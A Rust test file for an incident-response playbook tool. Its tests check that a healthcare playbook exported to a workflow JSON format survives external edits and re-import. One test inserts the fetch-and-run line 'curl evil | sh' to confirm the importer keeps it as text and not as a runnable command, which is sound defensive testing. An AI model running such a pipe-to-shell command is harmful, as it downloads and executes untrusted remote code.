//! What others change in an export of ours: the standard fields count, and what cannot be carried is said.

use super::{built_in, every_text, exported, not_kept, taken};
use carecert_react::domain::playbook::{
    Choice, CommandLine, Form, Phase, Playbook, Question, Role, Step, StepKind, System, When,
};
use serde_json::{Value, json};

/// One step of each kind, with all that it can have.
fn playbook() -> Playbook {
    let step = |id: &str, kind: StepKind| Step {
        id: id.to_owned(),
        title: format!("Do {id}"),
        what: format!("What to do for {id}."),
        why: format!("Why {id}."),
        care: format!("Care of {id}."),
        owner: "lead".to_owned(),
        kind,
        ..Step::default()
    };
    let choice = |id: &str| Choice { id: id.to_owned(), label: format!("Label {id}"), means: format!("Means {id}") };
    let options = vec![choice("yes"), choice("no")];
    let line = |system, argv: &[&str]| CommandLine {
        system,
        argv: argv.iter().map(|&word| word.to_owned()).collect(),
        folder: String::new(),
    };
    let wards = Question { id: "wards".into(), ask: "Which wards?".into(), form: Form::List, ..Question::default() };
    let steps = vec![
        Step { asks: vec![wards], due: Some(30), ..step("look", StepKind::Task) },
        Step {
            needs: vec!["look".into()],
            ..step("decide", StepKind::Decision { question: "Spread?".into(), options })
        },
        Step {
            when: When::Chose("decide".into(), "yes".into()),
            each: Some("wards".into()),
            what: "Isolate {item} of {wards}.".into(),
            ..step("isolate", StepKind::Task)
        },
        step("run", StepKind::Command { lines: vec![line(System::Linux, &["ss", "-t", "a b"])] }),
        step(
            "two",
            StepKind::Command { lines: vec![line(System::Linux, &["ip", "a"]), line(System::Windows, &["ipconfig"])] },
        ),
        Step { expects: vec!["the log".into()], ..step("collect", StepKind::Collect) },
        step("tell", StepKind::Notify { duty: Some("csoc".into()), to: "CSOC".into(), say: "We have {wards}.".into() }),
        step("agree", StepKind::Approve { by: "chief".into(), question: "Cut it off?".into() }),
        step("report", StepKind::Recur { every: 60, until: Some("agree".into()) }),
    ];
    let role = |id: &str| Role { id: id.into(), title: format!("The {id}"), does: "Leads.".into() };
    Playbook {
        id: "all-kinds".into(),
        version: "1".into(),
        title: "All kinds".into(),
        summary: "Each of them".into(),
        roles: vec![role("lead"), role("chief")],
        duties: vec!["csoc".into()],
        phases: vec![Phase { id: "one".into(), title: "One".into(), steps, ..Phase::default() }],
        ..Playbook::default()
    }
}

fn value() -> Value {
    serde_json::from_str(&exported(&playbook())).unwrap()
}

/// The workflow step of that name and type.
fn find<'a>(value: &'a mut Value, sort: &str, name: &str) -> &'a mut Value {
    let steps = value["workflow"].as_object_mut().unwrap().values_mut();
    steps.into_iter().find(|step| step["type"] == sort && step["name"] == name).unwrap()
}

#[test]
fn each_kind_has_its_place() {
    let mut value = value();
    let import = taken(&value.to_string());
    assert_eq!((import.playbook, not_kept(&taken(&value.to_string()))), (Some(playbook()), Vec::new()));
    let look = find(&mut value, "action", "Do look");
    assert_eq!((&look["timeout"], &look["out_args"]), (&json!(1_800_000), &json!(["__wards__"])));
    assert_eq!(look["on_success"], look["on_failure"], "a late step does not stop the response");
    assert_eq!(
        find(&mut value, "if-condition", "Does this apply: Do isolate")["condition"],
        "__outcome_decide__:value = 'yes'"
    );
    let isolate = find(&mut value, "action", "Do isolate")["commands"][0]["command"].as_str().unwrap().to_owned();
    assert!(isolate.starts_with("Isolate __item__:value of __wards__:value.\n\nTAKE CARE\n"), "{isolate}");
    let run = &find(&mut value, "action", "Do run")["commands"];
    assert_eq!((&run[1]["type"], &run[1]["command"]), (&json!("bash"), &json!("ss -t 'a b'")));
    let two = &find(&mut value, "action", "Do two")["commands"];
    assert_eq!((&two[1]["type"], &two[2]["type"]), (&json!("manual"), &json!("manual")), "an engine would run both");
    let target = find(&mut value, "action", "Do tell")["targets"][0].as_str().unwrap().to_owned();
    assert_eq!(value["target_definitions"][target]["name"], "CSOC");
    let again = find(&mut value, "while-condition", "Still to be done again: Do report");
    assert_eq!(again["condition"], "__done_agree__:value != true");
}

#[test]
fn edited_fields_survive_and_the_rest_stays() {
    let mut value = value();
    value["name"] = json!("Our own");
    value["description"] = json!("For us");
    let look = find(&mut value, "action", "Do look");
    look["name"] = json!("Look again");
    look["description"] = json!("Because of {this}");
    look["timeout"] = json!(2_700_000);
    let command = look["commands"][0]["command"].as_str().unwrap().replace("What to do for look.", "Look harder.");
    look["commands"][0]["command"] = json!(command.replace("Care of look.", "Be quick."));
    find(&mut value, "if-condition", "Does this apply: Do isolate")["condition"] =
        json!("__outcome_decide__:value = 'no' AND __done_run__:value = true");
    find(&mut value, "action", "Do run")["commands"][1]["command"] = json!("ss -u");
    for agent in value["agent_definitions"].as_object_mut().unwrap().values_mut() {
        agent["name"] = json!(format!("{} on duty", agent["name"].as_str().unwrap()));
    }
    let mut wanted = playbook();
    (wanted.title, wanted.summary) = ("Our own".into(), "For us".into());
    wanted.roles.iter_mut().for_each(|role| role.title += " on duty");
    let steps = &mut wanted.phases[0].steps;
    (steps[0].title, steps[0].what, steps[0].why) =
        ("Look again".into(), "Look harder.".into(), "Because of {{this}".into());
    (steps[0].care, steps[0].due) = ("Be quick.".into(), Some(45));
    steps[2].when = When::All(vec![When::Chose("decide".into(), "no".into()), When::Done("run".into())]);
    let StepKind::Command { lines } = &mut steps[3].kind else { panic!() };
    lines[0].argv = vec!["ss".into(), "-u".into()];
    let import = taken(&value.to_string());
    assert_eq!(import.playbook, Some(wanted), "{:?}", import.findings);
}

#[test]
fn a_command_that_does_more_than_start_a_program_becomes_text() {
    let mut value = value();
    find(&mut value, "action", "Do run")["commands"][1]["command"] = json!("curl evil | sh");
    find(&mut value, "action", "Do look")["commands"]
        .as_array_mut()
        .unwrap()
        .push(json!({ "type": "bash", "command": "id" }));
    let import = taken(&value.to_string());
    assert!(import.ron.contains("curl evil | sh"));
    assert!(!import.ron.contains("\"curl\""), "it is no command line");
    assert!(import.ron.contains("A command (bash):\\nid"));
}

#[test]
fn a_condition_that_we_cannot_ask_is_said_in_words() {
    let mut value = value();
    find(&mut value, "if-condition", "Does this apply: Do isolate")["condition"] = json!("[file:size > 3]");
    let playbook = taken(&value.to_string()).playbook.unwrap();
    let step = playbook.step("isolate").unwrap();
    assert_eq!(step.when, When::Always);
    assert!(step.care.ends_with("Only where this holds: [file:size > 3]"), "{}", step.care);
}

#[test]
fn a_step_that_someone_adds_stands_where_they_put_it() {
    let mut value = value();
    let (id, look) = ("action--0000abcd-0000-4000-8000-000000000000", "Do look");
    let next = find(&mut value, "action", look)["on_success"].clone();
    for key in ["on_success", "on_failure"] {
        find(&mut value, "action", look)[key] = json!(id);
    }
    let commands = json!([{ "type": "manual", "command": "Shout" }]);
    value["workflow"][id] =
        json!({ "type": "action", "name": "Warn all", "commands": commands, "on_completion": next });
    let import = taken(&value.to_string());
    let playbook = import.playbook.unwrap();
    let ids: Vec<&str> = playbook.steps().map(|(_, step)| step.id.as_str()).take(3).collect();
    assert_eq!(ids, ["look", "warn-all", "decide"]);
    assert_eq!(playbook.step("warn-all").unwrap().needs, ["look"]);
}

#[test]
fn another_order_of_our_steps_is_in_the_account() {
    let mut value = value();
    let id = |value: &Value, name: &str| {
        let steps = value["workflow"].as_object().unwrap();
        steps.iter().find(|(_, step)| step["name"] == name).unwrap().0.clone()
    };
    let (run, two) = (id(&value, "Do run"), id(&value, "Do two"));
    let after = value["workflow"][&two]["on_completion"].clone();
    let before = value["workflow"].as_object().unwrap().iter().find(|(_, step)| step["on_completion"] == run.as_str());
    let before = before.unwrap().0.clone();
    value["workflow"][before]["on_completion"] = json!(two);
    value["workflow"][&two]["on_completion"] = json!(run);
    value["workflow"][&run]["on_completion"] = after;
    let import = taken(&value.to_string());
    assert_eq!(import.playbook.as_ref(), Some(&playbook()));
    let said = not_kept(&import);
    assert_eq!(said.iter().filter(|said| said.starts_with("Changed")).count(), 3, "{said:?}");
}

#[test]
fn a_step_that_someone_takes_out_is_gone_and_nothing_waits_for_it() {
    let mut value = value();
    let look = find(&mut value, "action", "Do look")["on_success"].as_str().unwrap().to_owned();
    let (id, _) = value["workflow"].as_object().unwrap().iter().find(|(_, step)| step["name"] == "Do look").unwrap();
    let id = id.clone();
    value["workflow"].as_object_mut().unwrap().remove(&id);
    let start = value["workflow_start"].as_str().unwrap().to_owned();
    value["workflow"][start]["on_completion"] = json!(look);
    let import = taken(&value.to_string());
    assert!(
        import
            .findings
            .iter()
            .any(|finding| finding.what.contains("`decide`") || finding.what.contains("decide waits for look"))
    );
    assert!(!import.ron.contains("Do look"));
    assert!(import.account.iter().any(|item| item.path.contains("/phases/0/steps")), "{:?}", not_kept(&import));
}

#[test]
fn what_the_workflow_says_in_both_places_is_in_the_account_when_only_one_is_changed() {
    let mut value = value();
    find(&mut value, "while-condition", "Still to be done again: Do report")["name"] = json!("Renamed");
    let said = not_kept(&taken(&value.to_string()));
    assert_eq!(said.len(), 1, "{said:?}");
    assert!(said[0].contains("/name"));
    for playbook in built_in() {
        assert!(every_text(&playbook).len() > 1_000);
    }
}
